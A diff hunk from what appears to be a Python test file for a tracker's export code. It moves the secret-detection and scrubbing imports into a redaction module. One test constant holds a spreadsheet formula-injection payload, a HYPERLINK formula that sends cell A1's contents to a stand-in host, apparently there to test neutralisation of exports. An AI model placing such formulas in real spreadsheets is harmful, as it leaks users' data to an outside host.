@@ -22,16 +22,15 @@ from tests.browser.demo import (
     tampered_result,
 )
 from tracker.exports import (
-    find_secrets,
     findings_schema,
     neutralise,
-    scrub_secrets,
     write_csv,
     write_json,
     write_report_folder,
     write_run,
     write_xlsx,
 )
+from tracker.redaction import find_secrets, scrub_secrets
 from tracker.risk import FINDING_COLUMNS
 
 FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
